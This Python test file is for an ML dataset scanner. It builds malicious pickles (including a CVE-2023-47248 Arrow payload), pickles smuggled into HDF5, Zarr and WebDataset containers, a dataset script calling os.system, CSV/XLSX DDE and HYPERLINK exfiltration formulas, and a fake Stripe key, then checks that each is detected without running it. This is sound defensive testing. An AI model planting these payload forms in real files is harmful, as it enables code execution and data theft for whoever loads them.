"""Dataset formats built in code: each payload is found, each benign twin stays clean, and
nothing runs (the payloads would create the marker file)."""

from __future__ import annotations

import bz2
import io
import json
import lzma
import pickle
import tarfile
import zlib
from pathlib import Path

import pytest
from tests.conftest import INLINE

import mlward
from mlward.findings import Report


def payload(marker: Path) -> bytes:
    """A protocol-0 pickle calling os.system('touch MARKER') when loaded (never loaded)."""
    return f"cos\nsystem\n(S'touch {marker}'\ntR.".encode()


def scan(*paths: Path) -> Report:
    return mlward.scan(list(paths), settings=INLINE)


def rules(report: Report) -> set[str]:
    return {f.rule_id for f in report.findings}


# -- Parquet / Feather / Arrow IPC (CVE-2023-47248) ----------------------------------------

pa = pytest.importorskip("pyarrow")


def py_extension_table(pickled: bytes) -> object:
    """A table whose column declares arrow.py_extension_type with ``pickled`` metadata, as
    pyarrow's PyExtensionType wrote it (built from field metadata: nothing is registered)."""
    field = pa.field("x", pa.binary(), metadata={
        b"ARROW:extension:name": b"arrow.py_extension_type",
        b"ARROW:extension:metadata": pickled})
    return pa.table({"x": [b"a"], "y": [1]}).cast(pa.schema([field, pa.field("y", pa.int64())]))


def write_all(table: object, folder: Path) -> list[Path]:
    import pyarrow.feather as feather
    import pyarrow.parquet as pq

    folder.mkdir()
    pq.write_table(table, folder / "t.parquet")
    feather.write_feather(table, folder / "t.feather")
    with pa.ipc.new_stream(str(folder / "t.arrows"), table.schema) as w:
        w.write_table(table)
    return [folder / "t.parquet", folder / "t.feather", folder / "t.arrows"]


def test_cve_2023_47248_py_extension_type_pickle_is_found_in_every_arrow_container(
        tmp_path: Path, marker: Path) -> None:
    # CVE-2023-47248: pyarrow < 14.0.1 unpickles arrow.py_extension_type metadata on read.
    files = write_all(py_extension_table(payload(marker)), tmp_path / "evil")
    report = scan(*files)
    for f in files:
        found = {x.rule_id for x in report.findings if x.location.uri.endswith(f.name)}
        assert {"MW950", "MW101"} <= found, f.name
    assert not marker.exists()


def test_benign_arrow_files_are_clean(tmp_path: Path) -> None:
    table = pa.table({"x": ["a", "b"], "y": [1, 2]})
    report = scan(*write_all(table, tmp_path / "ok"))
    assert report.findings == () and not report.inconclusive
    assert {e.format for e in report.examined} == {"parquet", "arrow-ipc-file",
                                                    "arrow-ipc-stream"}


def test_pickled_value_extension_and_unknown_pandas_dtype(tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    field = pa.field("obj", pa.large_binary(), metadata={
        b"ARROW:extension:name": b"ray.data.arrow_pickled_object"})
    pandas = {"columns": [{"name": "g", "numpy_type": "geometry", "pandas_type": "object"}]}
    table = pa.table({"obj": [b"x"]}).cast(pa.schema([field])).replace_schema_metadata(
        {b"pandas": json.dumps(pandas).encode()})
    pq.write_table(table, tmp_path / "t.parquet")
    report = scan(tmp_path / "t.parquet")
    assert {"MW951", "MW952"} <= rules(report)


@pytest.mark.parametrize("damage", ["truncated", "footer_length", "garbage_footer"])
def test_damaged_parquet_is_malformed_and_inconclusive(tmp_path: Path, damage: str) -> None:
    import pyarrow.parquet as pq

    pq.write_table(pa.table({"x": [1, 2, 3]}), tmp_path / "t.parquet")
    raw = (tmp_path / "t.parquet").read_bytes()
    if damage == "truncated":
        raw = raw[:len(raw) // 2]
    elif damage == "footer_length":
        raw = raw[:-8] + (2**31).to_bytes(4, "little") + b"PAR1"
    else:
        n = int.from_bytes(raw[-8:-4], "little")
        raw = raw[:-8 - n] + b"\xff" * n + raw[-8:]
    (tmp_path / "t.parquet").write_bytes(raw)
    report = scan(tmp_path / "t.parquet")
    assert "MW953" in rules(report) and report.inconclusive
    assert report.exit_code(mlward.Severity.CRITICAL) == 2


# -- pandas / PyTables HDF5 -----------------------------------------------------------------

h5py = pytest.importorskip("h5py")


def pandas_like_h5(path: Path, attr: bytes, row: bytes) -> Path:
    """The layout pandas' fixed format writes: a group with pickled attributes and an object
    VLArray whose rows are pickles."""
    import numpy as np

    with h5py.File(path, "w") as h:
        h.attrs["PYTABLES_FORMAT_VERSION"] = np.bytes_(b"2.1")
        g = h.create_group("df")
        g.attrs["pandas_type"] = np.bytes_(b"frame")
        g.attrs["info"] = np.bytes_(attr)
        ds = g.create_dataset("block0_values", (1,), dtype=h5py.vlen_dtype(np.uint8))
        ds[0] = np.frombuffer(row, dtype=np.uint8)
        ds.attrs["CLASS"] = np.bytes_(b"VLARRAY")
        ds.attrs["PSEUDOATOM"] = np.bytes_(b"object")
    return path


def test_pytables_pickled_attribute_and_object_column_are_judged(tmp_path: Path,
                                                                 marker: Path) -> None:
    evil = pandas_like_h5(tmp_path / "evil.h5", payload(marker), payload(marker))
    ok = pandas_like_h5(tmp_path / "ok.h5", pickle.dumps({"a": [1, 2]}, protocol=0),
                        pickle.dumps(["x", "y"]))
    report = scan(evil, ok)
    members = {f.location.members for f in report.findings if f.rule_id == "MW101"}
    assert members == {("/df attribute info",), ("/df/block0_values row 0",)}
    assert all(f.location.uri == "evil.h5" for f in report.findings)
    assert ("ok.h5", "pandas-hdf5") in {(e.location.uri, e.format) for e in report.examined}
    assert not marker.exists()


def test_truncated_hdf5_is_inconclusive(tmp_path: Path, marker: Path) -> None:
    path = pandas_like_h5(tmp_path / "t.h5", payload(marker), payload(marker))
    path.write_bytes(path.read_bytes()[:3000])
    report = scan(path)
    assert report.inconclusive and not marker.exists()


# -- Zarr ------------------------------------------------------------------------------------


COMPRESS = {"zlib": zlib.compress, "lzma": lzma.compress, "bz2": bz2.compress}


def zarr_array(folder: Path, chunk: bytes, *, pickled: bool, compressor: str = "zlib") -> Path:
    folder.mkdir(parents=True)
    meta = {"zarr_format": 2, "shape": [1], "chunks": [1], "dtype": "|O" if pickled else "<i8",
            "compressor": {"id": compressor}, "fill_value": None, "order": "C",
            "filters": [{"id": "pickle", "protocol": 5}] if pickled else None}
    (folder / ".zarray").write_text(json.dumps(meta))
    (folder / "0").write_bytes(COMPRESS.get(compressor, zlib.compress)(chunk))
    return folder


def test_zarr_pickle_codec_chunks_are_decoded_and_judged(tmp_path: Path, marker: Path) -> None:
    zarr_array(tmp_path / "z" / "evil", payload(marker), pickled=True)
    zarr_array(tmp_path / "z" / "ok", b"\0" * 8, pickled=False)
    report = scan(tmp_path / "z")
    bad = [f for f in report.findings if f.rule_id == "MW101"]
    # The engine also decompresses the zlib chunk by content; the Zarr scanner decodes it
    # whatever its codec (blosc and zstd chunks are not recognised by content).
    assert ("evil/0", ("zlib-decoded",)) in {(f.location.uri, f.location.members) for f in bad}
    assert {f.location.uri for f in report.findings} == {"evil/0"}
    assert {(e.location.uri, e.format) for e in report.examined} >= {
        ("evil", "zarr (pickle codec)"), ("ok", "zarr")}
    assert not marker.exists()


@pytest.mark.parametrize("codec", ["lzma", "bz2"])
def test_zarr_lzma_and_bz2_chunks_are_decoded_and_judged(tmp_path: Path, marker: Path,
                                                         codec: str) -> None:
    zarr_array(tmp_path / "z", payload(marker), pickled=True, compressor=codec)
    report = scan(tmp_path / "z")
    members = {f.location.members for f in report.findings if f.rule_id == "MW101"}
    assert (f"{codec}-decoded",) in members
    assert not marker.exists()


@pytest.mark.parametrize("codec", ["zlib", "lzma", "bz2"])
@pytest.mark.parametrize("damage", ["flipped", "cut"])
def test_a_damaged_zarr_chunk_is_inconclusive(tmp_path: Path, marker: Path, codec: str,
                                              damage: str) -> None:
    """Flipped bytes, or a chunk cut short: a decoder that stops early without an error
    must not pass its partial output off as the chunk."""
    folder = zarr_array(tmp_path / "z", payload(marker), pickled=True, compressor=codec)
    chunk = (folder / "0").read_bytes()
    (folder / "0").write_bytes(chunk[:12] + bytes(b ^ 0x5A for b in chunk[12:])
                               if damage == "flipped" else chunk[:len(chunk) // 2])
    report = scan(tmp_path / "z")
    assert any(f"{codec} chunk is damaged" in s.reason for s in report.inconclusive), \
        [s.reason for s in report.skipped]
    assert not marker.exists()


def test_zarr_with_an_unknown_codec_is_inconclusive(tmp_path: Path, marker: Path) -> None:
    zarr_array(tmp_path / "z", payload(marker), pickled=True, compressor="made-up")
    report = scan(tmp_path / "z")
    assert any("not one mlward decodes" in s.reason for s in report.inconclusive)


# -- WebDataset -------------------------------------------------------------------------------


def shard(path: Path, members: dict[str, bytes]) -> Path:
    with tarfile.open(path, "w") as t:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return path


def test_webdataset_members_the_loader_unpickles_are_judged(tmp_path: Path,
                                                            marker: Path) -> None:
    # Garbage before the payload: not recognised as a pickle by content, unpickled anyway.
    import gzip

    evil = shard(tmp_path / "evil.tar", {"0.txt": b"a", "0.pyd": payload(marker),
                                         "1.pickle": b"\x00garbage" + payload(marker),
                                         "2.pyd.gz": gzip.compress(b"\x00" + payload(marker))})
    ok = shard(tmp_path / "ok.tar", {"0.txt": b"a", "0.pyd": pickle.dumps({"a": 1})})
    report = scan(evil, ok)
    found = {(f.rule_id, f.location.members) for f in report.findings}
    assert ("MW101", ("0.pyd",)) in found and ("MW105", ("1.pickle",)) in found
    assert ("MW105", ("2.pyd.gz", "2.pyd")) in found
    assert not [f for f in report.findings if f.location.uri == "ok.tar"]
    assert not marker.exists()


# -- Hugging Face dataset repositories -------------------------------------------------------


def test_dataset_repository_loading_script_and_plain_http_downloads(tmp_path: Path,
                                                                    marker: Path) -> None:
    evil = tmp_path / "squad"
    evil.mkdir()
    (evil / "squad.py").write_text(
        "import datasets, os\n"
        f"os.system('touch {marker}')\n"
        "class Squad(datasets.GeneratorBasedBuilder):\n    pass\n")
    (evil / "dataset_infos.json").write_text(json.dumps(
        {"default": {"download_checksums": {"http://data.invalid/train.json": {}}}}))
    ok = tmp_path / "clean"
    (ok / "data").mkdir(parents=True)
    (ok / "README.md").write_text("---\nconfigs:\n- config_name: default\n  data_files: "
                                  "data/*.parquet\n---\n# A dataset\n")
    report = scan(evil, ok)
    assert {"MW954", "MW955"} <= rules(report)
    assert not [f for f in report.findings if f.location.uri.startswith("clean")]
    assert not marker.exists()


# -- CSV / XLSX content ----------------------------------------------------------------------


STRIPE = "sk_" + "live_" + "a1B2c3D4e5" * 3  # assembled here: a live-format Stripe key


def test_csv_formula_injection_dde_secrets_and_pii_name_the_column(tmp_path: Path) -> None:
    (tmp_path / "evil.csv").write_text(
        "id,email,note\n"
        '1,bob@corp-mail.com,"=HYPERLINK(""http://x.invalid?""&A1,""y"")"\n'
        "2,al@corp-mail.com,\"=cmd|' /C calc'!A0\"\n"
        f"3,zoe@corp-mail.com,{STRIPE}\n")
    (tmp_path / "ok.csv").write_text("id,score,label\n1,-2.5,pos\n2,+3,neg\n3,@home,neg\n")
    report = scan(tmp_path / "evil.csv", tmp_path / "ok.csv")
    by_rule = {f.rule_id: f for f in report.findings}
    assert {"MW960", "MW961", "MW962", "MW401"} <= set(by_rule)
    assert by_rule["MW960"].details["column"] == "note"
    assert by_rule["MW962"].details["column"] == "email"
    assert STRIPE not in json.dumps(report.to_dict())
    assert not [f for f in report.findings if f.location.uri == "ok.csv"]


def test_ragged_and_mixed_encoding_csv_are_reported(tmp_path: Path) -> None:
    (tmp_path / "r.csv").write_bytes(b"a,b\n1,2,3\n4\ncaf\xe9,\xc3\xa9\n")
    report = scan(tmp_path / "r.csv")
    messages = " ".join(f.message for f in report.findings if f.rule_id == "MW953")
    assert "ragged" in messages and "UTF-8" in messages


def test_xlsx_dde_formula_and_macros(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["name", "total"])
    ws.append(["a", "=SUM(1,2)"])
    ws["B3"] = "=cmd|' /C calc'!A0"
    wb.save(tmp_path / "evil.xlsx")
    wb = openpyxl.Workbook()
    wb.active.append(["name", "total"])
    wb.active.append(["a", "=SUM(1,2)"])
    wb.save(tmp_path / "ok.xlsx")
    report = scan(tmp_path / "evil.xlsx", tmp_path / "ok.xlsx")
    assert {(f.rule_id, f.location.uri) for f in report.findings} == {("MW961", "evil.xlsx")}


def test_parquet_columns_are_sampled_for_secrets_and_personal_data(tmp_path: Path) -> None:
    pytest.importorskip("duckdb")
    import pyarrow.parquet as pq

    pq.write_table(pa.table({"id": [1, 2], "contact": ["ann@corp-mail.com", "bo@corp-mail.com"],
                             "token": ["none", STRIPE]}),
                   tmp_path / "users.parquet")
    report = scan(tmp_path / "users.parquet")
    columns = {(f.rule_id, f.details.get("column")) for f in report.findings}
    assert {("MW962", "contact"), ("MW401", "token")} <= columns


# -- pickled DataFrames ---------------------------------------------------------------------


@pytest.mark.parametrize(("name", "protocol"), [("df.pkl", 5), ("df.pkl.gz", 4),
                                                ("df.pkl.xz", 2), ("df.pkl.bz2", 0)])
def test_pickled_dataframe_shape_is_told_when_only_pandas_is_imported(tmp_path: Path,
                                                                      name: str,
                                                                      protocol: int) -> None:
    pd = pytest.importorskip("pandas")
    frame = pd.DataFrame({"a": range(7), "b": [f"s{i}" for i in range(7)], "c": 0.5})
    frame.to_pickle(tmp_path / name, protocol=protocol)
    report = scan(tmp_path / name)
    facts = [f.data for f in report.facts if f.data.get("format") == "pandas-pickle"]
    assert facts == [{"format": "pandas-pickle", "rows": 7, "column_count": 3}]


def test_a_payload_dressed_as_a_dataframe_is_judged_and_its_shape_untold(tmp_path: Path,
                                                                         marker: Path) -> None:
    from mlward._internal.scanners.datasets.dataframe import dataframe_shape

    # A DataFrame-looking pickle whose state calls os.system: never loaded.
    data = (b"\x80\x04\x8c\x06pandas\x8c\tDataFrame\x93)\x81}\x8c\x04_mgr"
            + payload(marker)[:-1] + b"sb.")
    (tmp_path / "frame.pkl").write_bytes(data)
    report = scan(tmp_path / "frame.pkl")
    assert "MW101" in rules(report)
    assert not [f for f in report.facts if f.data.get("format") == "pandas-pickle"]
    assert dataframe_shape(data) is None
    assert not marker.exists()


def test_only_builder_scripts_count_as_loading_scripts(tmp_path: Path) -> None:
    utils = tmp_path / "utils"
    utils.mkdir()
    (utils / "utils.py").write_text("def helper():\n    return 1\n")  # a folder's own module
    repo = tmp_path / "clone-of-squad"
    repo.mkdir()
    (repo / "README.md").write_text("---\ntask_categories:\n- question-answering\n---\n")
    (repo / "squad.py").write_text("import datasets\n"
                                   "class Squad(datasets.GeneratorBasedBuilder):\n    pass\n")
    report = scan(utils, repo)
    assert [(f.rule_id, f.location.uri) for f in report.findings
            if f.rule_id == "MW954"] == [("MW954", "clone-of-squad/squad.py")]
